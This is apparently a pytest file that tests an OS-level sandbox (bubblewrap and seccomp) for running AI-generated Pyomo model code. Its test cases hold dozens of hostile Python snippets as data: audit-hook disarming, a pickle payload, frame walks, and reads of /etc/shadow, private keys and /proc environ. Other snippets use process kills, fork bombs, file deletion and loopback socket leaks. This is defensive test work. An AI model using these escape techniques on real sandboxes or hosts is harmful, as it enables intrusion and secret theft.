"""Generated code runs only in the sandbox: hostile snippets are refused or contained, and the host stays untouched."""

from __future__ import annotations

import json
import os
import shlex
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import ROOT
from tools.solvers.sandbox import isolation, run_generated_model, seccomp
from tools.solvers.sandbox.policy import policy_problems
from tools.solvers.sandbox.runner import INVALID_OUTPUT, RESULT_LIMIT_BYTES, read_result

KNAPSACK = """
import pyomo.environ as pyo

def build_model(data):
    m = pyo.ConcreteModel()
    m.I = pyo.Set(initialize=list(data["values"]))
    m.x = pyo.Var(m.I, domain=pyo.Binary)
    m.cap = pyo.Constraint(expr=sum(data["weights"][i] * m.x[i] for i in m.I) <= data["capacity"])
    m.obj = pyo.Objective(expr=sum(data["values"][i] * m.x[i] for i in m.I), sense=pyo.maximize)
    return m
"""
DATA = {"values": {"a": 3, "b": 2, "c": 1}, "weights": {"a": 1, "b": 2, "c": 3}, "capacity": 4}


def generated(body: str) -> str:
    """A build_model whose body does something; the policy needs build_model to exist."""
    indented = "\n".join("    " + line for line in body.strip().splitlines())
    return f"import pyomo.environ as pyo\n\ndef build_model(data):\n{indented}\n    return pyo.ConcreteModel()\n"


def test_a_good_model_builds_and_solves_and_only_data_comes_back() -> None:
    result = run_generated_model(KNAPSACK, DATA)
    assert result.ok, result.error
    assert result.status == "optimal" and result.objective == pytest.approx(5.0)
    assert result.solution == {"x[a]": 1.0, "x[b]": 1.0, "x[c]": 0.0}
    assert result.summary["integer_variables"] == 3 and result.summary["sense"] == "max"
    assert result.isolated and result.isolated_network  # bubblewrap's own network namespace, for root and others alike


def test_a_bug_comes_back_as_a_short_message_naming_the_line() -> None:
    buggy = KNAPSACK.replace('data["capacity"]', "capacity_limit")
    result = run_generated_model(buggy, DATA)
    assert not result.ok
    assert result.error.startswith("line 8: NameError: name 'capacity_limit' is not defined")
    assert "(in: m.cap = pyo.Constraint" in result.error


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A loopback server the hostile code tries to reach; it records anything that arrives."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                received.append(conn.recv(100) or b"<connected>")
                conn.close()
            except TimeoutError:
                continue

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


def hostile_snippets(outside: Path, port: int) -> dict[str, str]:
    return {
        "os.system": generated("import os\nos.system('touch " + str(outside / "pwned") + "')"),
        "subprocess": generated("import subprocess\nsubprocess.run(['touch', '" + str(outside / "pwned") + "'])"),
        "socket": generated(f"import socket\ns = socket.create_connection(('127.0.0.1', {port}))\ns.sendall(b'leak')"),
        "write outside": generated(f"with open('{outside / 'pwned'}', 'w') as f:\n    f.write('x')"),
        "__import__": generated("os = __import__('os')\nos.system('true')"),
        "getattr builtins": generated("e = getattr(__builtins__, 'ev' + 'al')\ne('1')"),
        "subclasses escape": generated("classes = ().__class__.__mro__[1].__subclasses__()"),
        "importlib": generated("import importlib\nimportlib.import_module('os')"),
        "ctypes": generated("import ctypes\nctypes.CDLL(None)"),
        "sys": generated("import sys\nsys.exit(3)"),
        "fork bomb": generated("import os\nwhile True:\n    os.fork()"),
        "eval": generated("eval(\"__import__('os').system('true')\")"),
        "exec": generated("exec('import os')"),
        "shutil rmtree": generated(f"import shutil\nshutil.rmtree('{outside}')"),
        "memory bomb": generated("blob = [0] * (10 ** 10)"),
        "big string": generated("blob = ' ' * (10 ** 11)"),
        "infinite loop": generated("while True:\n    pass"),
        "huge output": generated("for i in range(10 ** 9):\n    print('x' * 1000)"),
        "numpy file write": generated(f"import numpy\nnumpy.save('{outside / 'pwned.npy'}', numpy.zeros(3))"),
        "raise SystemExit": generated("raise SystemExit(0)"),
    }


def test_hostile_snippets_are_refused_or_contained(tmp_path: Path, listener: tuple[int, list[bytes]]) -> None:
    port, received = listener
    outside = tmp_path / "host"
    outside.mkdir()
    keep = outside / "keep.txt"
    keep.write_text("precious")
    snippets = hostile_snippets(outside, port)
    assert len(snippets) >= 15
    for name, code in snippets.items():
        result = run_generated_model(code, {}, solve=False, time_limit_s=3, memory_mb=512)
        assert not result.ok, f"{name} was not stopped"
        assert result.error, name
    assert received == []  # nothing reached the listener
    assert sorted(p.name for p in outside.iterdir()) == ["keep.txt"]  # nothing written, nothing deleted
    assert keep.read_text() == "precious"


def test_the_policy_refuses_before_anything_runs() -> None:
    refused = policy_problems(generated("import os"))
    assert refused == ["line 4: import of os is not allowed"]
    assert "line 4: access to attribute __class__ is not allowed" in policy_problems(generated("x = ().__class__"))
    assert policy_problems("x = 1") == ["the code must define a top-level function build_model(data)"]


def test_the_child_sees_none_of_our_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LAMOPT_SANDBOX_CANARY", "secret-token")
    # pyomo's own modules hold a reference to os, which the policy cannot see: the environment must be empty anyway.
    leak = generated("import pyomo.common.fileutils as f\nraise ValueError(str(dict(f.os.environ)))")
    result = run_generated_model(leak, {})
    assert "ValueError" in result.error and "TMPDIR" in result.error
    assert "secret-token" not in result.error


def test_reaching_os_through_a_library_is_still_contained(tmp_path: Path) -> None:
    target = tmp_path / "pwned"
    sneaky = generated(f"import pyomo.common.fileutils as f\nf.os.system('touch {target}')")
    result = run_generated_model(sneaky, {})
    assert not result.ok and "os.system is not allowed" in result.error
    assert not target.exists()


# ---------------------------------------------------------------------------------------------------------
# The operating system is the wall (issue 19). Most snippets below first switch the child's audit hook off,
# as a hostile payload can, so what stops them is bubblewrap's namespaces and the seccomp filter. Each one
# leaves the host as it was: canary files, the listener, a victim process, the parent's environment.

LIB = "import pyomo.common.fileutils as f\n"
DISARM = LIB + "f.sys.modules['tools.solvers.sandbox.child']._ARMED = False\n"
ENV_CANARY = "env-canary-9f3b2c71"
FILE_CANARY = "file-canary-c0ffee42"
RESULT = "/scratch/result.json"


def pickle_payload(target: Path) -> bytes:
    """Protocol-0 pickle: setattr(import_module('...child'), '_ARMED', False), then os.system('touch target')."""
    return (
        b"cbuiltins\nsetattr\n(cimportlib\nimport_module\n(Vtools.solvers.sandbox.child\ntRV_ARMED\nI00\ntR0"
        b"cos\nsystem\n(Vtouch " + str(target).encode() + b"\ntR."
    )


def os_wall_snippets(host: Path, secret: Path, port: int, victim: int) -> dict[str, str]:
    """Name -> generated code. `host` is a folder of ours the code must not change, `secret` a file it must not read."""
    pwned = host / "pwned"
    touch = f"'touch {pwned}'"
    frame_walk = (
        "def walk():\n    frame = gens[0].gi_frame.f_back\n    while frame is not None:\n"
        "        if '_ARMED' in frame.f_globals:\n            frame.f_globals['_ARMED'] = False\n"
        "        frame = frame.f_back\n    yield 1\ngens = [walk()]\nlist(gens[0])\n"
    )
    snippets = {
        # attribute chains through modules that pyomo itself imports
        "chain: os.system": LIB + f"f.os.system({touch})",
        "chain: subprocess with the hook off": DISARM + f"f.subprocess.run(['touch', '{pwned}'])",
        "chain: _posixsubprocess.fork_exec": DISARM
        + (
            "r, w = f.os.pipe()\nf.sys.modules['_posixsubprocess'].fork_exec([b'/usr/bin/touch', b'" + str(pwned) + "'], "
            "[b'/usr/bin/touch'], True, (w,), None, None, -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, "
            "-1, None, False)"
        ),
        "chain: os.fork": DISARM + "pid = f.os.fork()\nif pid == 0:\n    f.os._exit(0)",
        "chain: posix_spawn": DISARM + f"f.os.posix_spawn('/usr/bin/touch', ['touch', '{pwned}'], {{}})",
        "chain: execv replaces the child": DISARM + f"f.os.execv('/usr/bin/touch', ['touch', '{pwned}'])",
        "chain: ctypes fork syscall": DISARM + "if f.ctypes.CDLL(None).syscall(57) >= 0:\n    f.os._exit(0)",
        # string-based attribute access to globals and the real builtins
        "attrgetter to the real open": "import operator\n"
        "g = operator.attrgetter('__init__.__globals__')(pyo.ConcreteModel)\n"
        f"g['__builtins__']['open']('{pwned}', 'w').write('x')",
        "str.format reads os.environ": "raise ValueError('{0.__init__.__globals__[sys].modules[os].environ}'.format(pyo.Var))",
        # the audit hook switched off: sys.modules, a frame walk, a pickle, finalizers
        "disarm by sys.modules, write by dir_fd": DISARM
        + f"fd = f.os.open('/', f.os.O_RDONLY)\nf.os.open('{str(pwned)[1:]}', f.os.O_CREAT | f.os.O_WRONLY, dir_fd=fd)",
        "disarm by frame walk": LIB + frame_walk + f"f.os.system({touch})",
        "disarm by pickle": LIB + f"f.sys.modules['pickle'].loads({pickle_payload(pwned)!r})",
        "finalizer __del__": LIB
        + f"class Evil:\n    def __del__(self):\n        f.os.system({touch})\nf.sys.modules['pyomo'].keep = Evil()",
        "atexit handler": DISARM + f"f.sys.modules['atexit'].register(f.os.system, {touch})",
        # secrets: system files, a private key, the parent's environment
        "read /etc/shadow": DISARM + "raise ValueError(f.os.read(f.os.open('/etc/shadow', 0), 4096))",
        "read a private key": DISARM + f"raise ValueError(f.os.read(f.os.open('{secret}', 0), 4096))",
        "read the parent's environ": DISARM + "found = []\nfor pid in f.os.listdir('/proc'):\n"
        "    if pid.isdigit():\n        try:\n"
        "            found.append(f.os.read(f.os.open('/proc/' + pid + '/environ', 0), 65536))\n"
        "        except OSError as exc:\n            found.append(str(exc))\nraise ValueError(found)",
        "read os.environ": LIB + "raise ValueError(dict(f.os.environ))",
        # files outside scratch: truncate, fifo, device node, times, folders
        "O_TRUNC of the interpreter": DISARM + "f.os.open(f.sys.executable, f.os.O_WRONLY | f.os.O_TRUNC)",
        "O_TRUNC of lamopt's code": DISARM
        + "f.os.open('/sandbox/lib/tools/solvers/sandbox/policy.py', f.os.O_WRONLY | f.os.O_TRUNC)",
        "mkfifo": DISARM + "f.os.mkfifo('/scratch/fifo')",
        "mknod": DISARM + "f.os.mknod('/scratch/null', 0o20666, f.os.makedev(1, 3))",
        "utime of the interpreter": DISARM + "f.os.utime(f.os.path.realpath(f.sys.executable), (0, 0))",
        "mkdir in the venv": DISARM + "f.os.mkdir(f.sys.prefix + '/pwned')",
        # signals to the parent and to a host process
        "kill the parent": DISARM + "f.os.kill(f.os.getppid(), 9)",
        "kill a host process": DISARM + f"f.os.kill({victim}, 9)",
        "kill everything": DISARM + "f.os.kill(-1, 9)",
        "pidfd_send_signal": DISARM + f"libc = f.ctypes.CDLL(None)\nfd = libc.syscall(434, {victim}, 0)\n"
        "raise ValueError(libc.syscall(424, fd, 9, 0, 0))",
        "ptrace the parent": DISARM + "raise ValueError(f.ctypes.CDLL(None).ptrace(16, f.os.getppid(), 0, 0))",
        # survivors: a new session, a thread that spins past the wall-clock kill
        "setsid and fork": DISARM + "f.os.setsid()\nif f.os.fork() == 0:\n    f.os.system('sleep 600')",
        "new user namespace": DISARM + "raise ValueError(f.ctypes.CDLL(None).unshare(0x10000000 | 0x40000000))",
        # the network, with the hook off
        "socket to the host": DISARM
        + f"s = f.sys.modules['socket'].create_connection(('127.0.0.1', {port}))\ns.sendall(b'leak')",
        "fill /tmp": DISARM
        + "for i in range(20):\n    f.os.write(f.os.open('/tmp/f%d' % i, f.os.O_CREAT | f.os.O_WRONLY), b'x' * (7 << 20))",
        # the result file: a directory, a link to a host file, a huge, a deep, a forged one
        "result is a directory": DISARM + f"f.os.mkdir('{RESULT}')\nf.os._exit(0)",
        "result links to a host file": DISARM + f"f.os.symlink('{secret}', '{RESULT}')\nf.os._exit(0)",
        "huge result": DISARM
        + f"f.os.write(f.os.open('{RESULT}', f.os.O_CREAT | f.os.O_WRONLY), b' ' * (5 << 20))\nf.os._exit(0)",
        "deep result": DISARM + f"f.os.write(f.os.open('{RESULT}', f.os.O_CREAT | f.os.O_WRONLY), b'[' * 100000)\nf.os._exit(0)",
        "forged result": DISARM + f"f.os.write(f.os.open('{RESULT}', f.os.O_CREAT | f.os.O_WRONLY), "
        'b\'{"ok": true, "status": "optimal", "objective": "-1e308", "solution": {"x": [1]}}\')\nf.os._exit(0)',
    }
    return {name: generated(body) for name, body in snippets.items()}


def survivors(marker: str) -> list[str]:
    """Live processes (not zombies) whose command line mentions `marker`."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            if marker in cmdline and "State:\tZ" not in (entry / "status").read_text():
                found.append(f"{entry.name}: {cmdline[:120]}")
        except OSError:
            continue
    return found


@pytest.fixture
def victim() -> Iterator[subprocess.Popen[bytes]]:
    process = subprocess.Popen(["sleep", "600"])
    yield process
    process.kill()
    process.wait()


def test_the_os_wall_holds_with_the_audit_hook_switched_off(
    tmp_path: Path, listener: tuple[int, list[bytes]], victim: subprocess.Popen[bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    port, received = listener
    monkeypatch.setenv("LAMOPT_SANDBOX_CANARY", ENV_CANARY)
    monkeypatch.setenv("OPENAI_API_KEY", ENV_CANARY)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))  # scratch folders (and so the sandbox's command lines) name tmp_path
    host = tmp_path / "host"
    host.mkdir()
    (host / "keep.txt").write_text("precious")
    secret = tmp_path / "id_ed25519"
    secret.write_text(FILE_CANARY)
    secret.chmod(0o600)
    policy = ROOT / "tools" / "solvers" / "sandbox" / "policy.py"
    interpreter = Path(os.path.realpath(sys.executable))
    before = (policy.read_bytes(), interpreter.stat().st_mtime, interpreter.stat().st_size)
    snippets = os_wall_snippets(host, secret, port, victim.pid)
    assert len(snippets) >= 25
    for name, code in snippets.items():
        assert policy_problems(code) == [], f"{name}: the AST policy refused it, so the OS wall was not tested"
        result = run_generated_model(code, {}, solve=False, time_limit_s=3, memory_mb=512)
        everything = json.dumps(result.to_dict())
        assert result.isolated, name
        assert ENV_CANARY not in everything and FILE_CANARY not in everything, f"{name} leaked a secret: {result.error}"
        assert "root:" not in everything, f"{name} read a host account file"
        assert survivors(str(tmp_path)) == [], f"{name} left a process behind"
        assert victim.poll() is None, f"{name} killed a host process"
        assert sorted(p.name for p in host.iterdir()) == ["keep.txt"], f"{name} wrote outside the sandbox"
        if name.endswith("result") or name.startswith("result"):
            assert not result.ok and INVALID_OUTPUT in result.error, f"{name}: {result.error}"
    assert received == []
    assert (policy.read_bytes(), interpreter.stat().st_mtime, interpreter.stat().st_size) == before


def test_a_wall_clock_kill_takes_the_whole_namespace_down(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    spinner = generated(
        DISARM + "t = f.sys.modules['threading'].Thread(target=lambda: any(iter(int, 1)))\nt.start()\nt.join()"
    )  # one busy thread, allocating nothing: neither the memory nor the CPU-time limit can come before the wall clock
    result = run_generated_model(spinner, {}, solve=False, time_limit_s=0.5, memory_mb=512)
    assert not result.ok and result.error.startswith("stopped: the code ran longer than")
    assert survivors(str(tmp_path)) == []


def test_numpy_imports_and_works_inside() -> None:
    code = (
        "import numpy as np\nimport pyomo.environ as pyo\n\ndef build_model(data):\n"
        "    w = np.linalg.solve(np.array([[2.0, 0.0], [0.0, 4.0]]), np.array([2.0, 8.0]))\n"
        "    m = pyo.ConcreteModel()\n    m.x = pyo.Var(range(2), bounds=(0, 10))\n"
        "    m.c = pyo.Constraint(expr=sum(float(w[i]) * m.x[i] for i in range(2)) <= 10)\n"
        "    m.o = pyo.Objective(expr=m.x[0] + m.x[1], sense=pyo.maximize)\n    return m\n"
    )
    result = run_generated_model(code, {})
    assert result.ok, result.error
    assert result.isolated and result.objective == pytest.approx(10.0)  # w = (1, 2): x0 = 10 is best


def test_read_result_treats_the_file_as_hostile(tmp_path: Path) -> None:
    def write(name: str, text: str | bytes) -> Path:
        path = tmp_path / name
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        return path

    fifo = tmp_path / "fifo.json"
    os.mkfifo(fifo)  # nobody writes to it: a blocking open would hang the parent forever
    (tmp_path / "dir.json").mkdir()
    (tmp_path / "link.json").symlink_to(write("target.json", '{"ok": true}'))
    good = write("good.json", json.dumps({"ok": True, "status": "optimal", "objective": 5, "solution": {"x[a]": 1},
                                          "summary": {"variables": 3, "sense": "max"}}))  # fmt: skip
    cases = {
        "fifo.json": "not a regular file",
        "dir.json": "is a directory",
        "link.json": "cannot be opened",
        write("huge.json", b" " * (RESULT_LIMIT_BYTES + 1)).name: "larger than the limit",
        write("deep.json", "[" * 100_000 + "]" * 100_000).name: "nested more than",
        write("deep5.json", '{"ok": true, "summary": {"a": [[[1]]]}}').name: "nested more than",
        write("binary.json", b"\xff\xfe\x00").name: "decode",
        write("notjson.json", "{ok").name: "does not parse",
        write("list.json", "[1, 2]").name: "boolean 'ok'",
        write("status.json", '{"ok": true, "status": "proven-optimal"}').name: "not a solver status",
        write("nan.json", '{"ok": true, "objective": NaN}').name: "not a finite number",
        write("string.json", '{"ok": true, "objective": "5"}').name: "not a finite number",
        write("solution.json", '{"ok": true, "solution": {"x": "1"}}').name: "solution is not",
        write("extra.json", '{"ok": true, "isolated": true}').name: "unknown fields",
        write("error.json", json.dumps({"ok": False, "error": "x" * 5000})).name: "error is not a string",
    }
    for name, why in cases.items():
        back = read_result(tmp_path / name)
        assert isinstance(back, str) and why in back, f"{name}: {back}"
    assert read_result(tmp_path / "missing.json") is None
    parsed = read_result(good)
    assert isinstance(parsed, dict) and parsed["objective"] == 5.0 and parsed["solution"] == {"x[a]": 1.0}


def test_without_isolation_generated_code_is_refused_unless_the_override_is_set(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(isolation, "isolation_status", lambda: (False, "bubblewrap (bwrap) is not installed"))
    monkeypatch.delenv(isolation.OVERRIDE_ENV, raising=False)
    refused = run_generated_model(KNAPSACK, DATA)
    assert not refused.ok and "not run" in refused.error and isolation.OVERRIDE_ENV in refused.error
    assert "bubblewrap (bwrap) is not installed" in refused.error
    monkeypatch.setenv(isolation.OVERRIDE_ENV, "1")
    weak = run_generated_model(KNAPSACK, DATA)
    assert weak.ok and weak.objective == pytest.approx(5.0) and not weak.isolated


def test_the_seccomp_programs_are_well_formed() -> None:
    for program in (seccomp.base_filter(), seccomp.no_exec_filter()):
        assert len(program) % 8 == 0 and 0 < len(program) // 8 < 4096
        opcode, _, _, k = struct.unpack("=HBBI", program[-8:])
        assert opcode == 0x06 and k == seccomp.SECCOMP_RET_KILL_PROCESS  # the last instruction: a foreign architecture
    assert struct.pack("=HBBI", 0x15, 0, 0, seccomp.EXECVE) not in seccomp.base_filter()  # the first exec must pass
    assert struct.pack("=HBBI", 0x15, 0, 0, 0)[:2] in seccomp.no_exec_filter()


def test_isolation_status_says_ready_where_bubblewrap_runs() -> None:
    ready, why = isolation.isolation_status()
    if isolation.bwrap_path() is None:
        assert not ready and "bubblewrap" in why
    else:
        assert ready, why  # bubblewrap is installed (make install): it must seal the sandbox on this machine


# --- the same checks as a non-root user ---------------------------------------------------------------------


def as_nobody(command: list[str]) -> list[str]:
    """Run `command` as uid/gid 65534. The interpreter, the venv or this checkout may live under /root (0700,
    e.g. pyenv): as root, a private mount namespace first puts a world-readable /root in place that holds
    just those folders; nothing else changes, and the host's mounts are untouched."""
    drop = ["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", "--inh-caps=-all", *command]
    if os.getuid() != 0:
        return command
    needed = {str(Path(os.path.realpath(sys.executable)).parents[1]), os.path.realpath(sys.prefix), str(ROOT)}
    hidden = sorted(p for p in needed if p.startswith("/root/"))
    if not hidden:
        return drop
    lines = ["set -e"]
    lines += [f"k{i}=$(mktemp -d); mount --bind {shlex.quote(p)} $k{i}" for i, p in enumerate(hidden)]
    lines.append("mount -t tmpfs -o mode=755 tmpfs /root")
    lines += [
        f"mkdir -p {shlex.quote(p)}; mount --bind $k{i} {shlex.quote(p)}; umount $k{i}; rmdir $k{i}" for i, p in enumerate(hidden)
    ]
    lines.append('exec "$@"')
    return ["unshare", "--mount", "--propagation", "private", "sh", "-c", "; ".join(lines), "sh", *drop]


def test_as_a_non_root_user_the_network_and_the_host_stay_out_of_reach(tmp_path: Path, listener: tuple[int, list[bytes]]) -> None:
    port, received = listener
    open_dir = tmp_path / "open"
    open_dir.mkdir()
    open_dir.chmod(0o777)  # nobody could write here without the sandbox
    secret = open_dir / "readable-by-all.txt"
    secret.write_text(FILE_CANARY)
    secret.chmod(0o644)
    tmp_path.chmod(0o755)
    tmp_path.parent.chmod(0o755)
    tmp_path.parent.parent.chmod(0o755)
    pwned = open_dir / "pwned"
    snippets = {
        name: generated(body)
        for name, body in {
            "socket": DISARM + f"s = f.sys.modules['socket'].create_connection(('127.0.0.1', {port}))\ns.sendall(b'leak')",
            "socket by ctypes": DISARM + "raise ValueError(f.ctypes.CDLL(None).socket(2, 1, 0))",
            "write": DISARM + f"f.os.open('{pwned}', f.os.O_CREAT | f.os.O_WRONLY)",
            "read": DISARM + f"raise ValueError(f.os.read(f.os.open('{secret}', 0), 100))",
            "spawn": DISARM + f"f.subprocess.run(['touch', '{pwned}'])",
        }.items()
    }
    request = tmp_path / "snippets.json"
    request.write_text(json.dumps(snippets))
    request.chmod(0o644)
    driver = [sys.executable, str(ROOT / "tests" / "drivers" / "sandbox_as_user.py"), str(request)]
    done = subprocess.run(as_nobody(driver), capture_output=True, text=True, timeout=300, cwd=ROOT,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    report = json.loads(done.stdout)
    assert report["uid"] == 65534 and report["isolation"] == [True, ""]
    for name, result in report["results"].items():
        assert not result["ok"] and result["isolated"], name
        assert FILE_CANARY not in json.dumps(result), name
    assert received == []
    assert sorted(p.name for p in open_dir.iterdir()) == ["readable-by-all.txt"]


def test_doctor_says_whether_generated_code_runs_sealed(monkeypatch: pytest.MonkeyPatch) -> None:
    from lamopt.doctor import _sandbox

    monkeypatch.delenv(isolation.OVERRIDE_ENV, raising=False)
    assert _sandbox().startswith("ok  OS isolation") == isolation.isolation_status()[0]
    monkeypatch.setattr(isolation, "isolation_status", lambda: (False, "bubblewrap (bwrap) is not installed"))
    assert _sandbox() == (
        "no  bubblewrap (bwrap) is not installed; generated code is refused (set LAMOPT_SANDBOX_UNISOLATED=1 to run it "
        "without OS isolation)"
    )


KILLED_MID_RUN = """
import sys, tempfile, threading
tempfile.tempdir = sys.argv[1]
from tests.test_sandbox import DISARM, generated
from tools.solvers.sandbox import run_generated_model
spinner = generated(DISARM + "print('spinning', flush=True)\\nwhile True:\\n    pass")
worker = threading.Thread(target=run_generated_model, args=(spinner, {}), kwargs={"solve": False, "time_limit_s": 60})
worker.start()
worker.join()
"""


def test_a_sigkilled_caller_takes_its_sandbox_with_it(tmp_path: Path) -> None:
    caller = subprocess.Popen([sys.executable, "-c", KILLED_MID_RUN, str(tmp_path)], cwd=ROOT,
                              env={**os.environ, "PYTHONPATH": str(ROOT)})  # fmt: skip
    try:
        deadline = time.monotonic() + 120
        while len(survivors(str(tmp_path))) < 3 and time.monotonic() < deadline:  # bwrap, the sandbox's init, python
            time.sleep(0.2)
        assert len(survivors(str(tmp_path))) >= 3, survivors(str(tmp_path))
        caller.kill()  # SIGKILL: no finally, no atexit in the caller
        caller.wait()
        deadline = time.monotonic() + 10
        while survivors(str(tmp_path)) and time.monotonic() < deadline:
            time.sleep(0.2)
        assert survivors(str(tmp_path)) == []
    finally:
        caller.kill()
        caller.wait()
